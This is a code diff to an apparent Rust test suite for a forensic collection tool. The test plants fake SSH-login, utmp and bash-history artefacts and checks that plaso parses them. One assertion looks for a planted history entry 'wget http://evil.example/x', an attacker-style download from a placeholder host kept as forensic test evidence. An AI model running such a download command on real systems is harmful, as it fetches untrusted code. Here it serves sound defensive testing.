@@ -50,6 +50,8 @@ fn plant(folder: &Path, mounts: &mut Mounts) {
     let then = TimeSpec::new(1_000_000_000, 0);
     utimensat(nix::fcntl::AT_FDCWD, "/home/ann/.ssh/a|b\n", &then, &then, UtimensatFlags::NoFollowSymlink).unwrap();
     fs::write("/var/log/wtmp", login()).unwrap();
+    fs::write("/var/log/auth.log", "Nov 14 22:13:20 guest sshd[7]: Accepted publickey for ann from 192.0.2.9 port 22 ssh2\n")
+        .unwrap();
 }
 
 /// A record of utmp(5): USER_PROCESS of ann on pts/7.
@@ -234,12 +236,15 @@ fn dissect(python: &Path, target: &Path, pid: i64, port: u16) {
     has("sockets", &[format!("local_port={port} ")]);
 }
 
-/// plaso's parsers of bodyfiles, histories and journals, over what was exported for them.
+/// plaso's parsers of bodyfiles, histories, logs, logins and journals, over what was exported for them.
 fn plaso(python: &Path, out: &Path, has_journal: bool) {
     let (source, events) = (out.with_extension("plaso"), out.with_extension("jsonl"));
     fs::create_dir(&source).unwrap();
     fs::copy(out.join("bodyfile.txt"), source.join("bodyfile.txt")).unwrap();
-    fs::copy(out.join("[root]/home/ann/.bash_history"), source.join(".bash_history")).unwrap();
+    for file in ["home/ann/.bash_history", "var/log/auth.log", "var/log/wtmp"] {
+        let file = out.join("[root]").join(file);
+        fs::copy(&file, source.join(file.file_name().unwrap())).unwrap();
+    }
     if has_journal {
         let machine = fs::read_to_string("/etc/machine-id").unwrap();
         let journal = Path::new("[root]/run/log/journal").join(machine.trim()).join("system.journal");
@@ -247,7 +252,8 @@ fn plaso(python: &Path, out: &Path, has_journal: bool) {
     }
     let storage = source.join("events.plaso");
     let quiet = ["-q", "-u", "--status_view", "none", "--logfile", "/dev/null"];
-    let parsers = ["--single_process", "--hashers", "none", "--parsers", "bodyfile,text/bash_history,systemd_journal"];
+    let kinds = "bodyfile,text/bash_history,text/syslog_traditional,utmp,systemd_journal";
+    let parsers = ["--single_process", "--hashers", "none", "--parsers", kinds];
     let run = |program: &str| {
         let mut command = Command::new(python.with_file_name(program));
         // Its settings and caches stay in the test's folder.
@@ -267,6 +273,8 @@ fn plaso(python: &Path, out: &Path, has_journal: bool) {
     // It leaves the sign for `|` in the name as mactime wants it written.
     has("fs:bodyfile:entry", &named("/home/ann/.ssh/a%7Cb\n"));
     has("bash:history:entry", &|event| event["command"].as_str().is_some_and(|text| text.contains("wget http://evil.example/x")));
+    has("syslog:ssh:login", &|event| event["username"] == "ann" && event["ip_address"] == "192.0.2.9");
+    has("linux:utmp:event", &|event| event["username"] == "ann" && event["terminal"] == "pts/7");
     if has_journal {
         has("systemd:journal", &|event| event["message_body"] == "planted in the journal");
     }
@@ -283,16 +291,10 @@ fn mactime(test: &str, bodyfile: &Path) {
     assert!(output.status.success() && found, "{text}");
 }
 
-/// On a host with dpkg, its database is one in the export too.
+/// On a host with dpkg, it takes the export for the root of a system.
 fn dpkg(root: &Path) {
     if Path::new("/var/lib/dpkg/status").is_file() {
-        let admin = root.join("var/lib/dpkg");
-        let text = said(Command::new("dpkg-query").arg(format!("--admindir={}", admin.display())).args([
-            "-W",
-            "-f",
-            "${Status}\n",
-            "dpkg",
-        ]));
-        assert_eq!(text, "install ok installed\n");
+        let text = said(Command::new("dpkg").arg(format!("--root={}", root.display())).args(["--status", "dpkg"]));
+        assert!(text.contains("\nStatus: install ok installed\n"), "{text}");
     }
 }
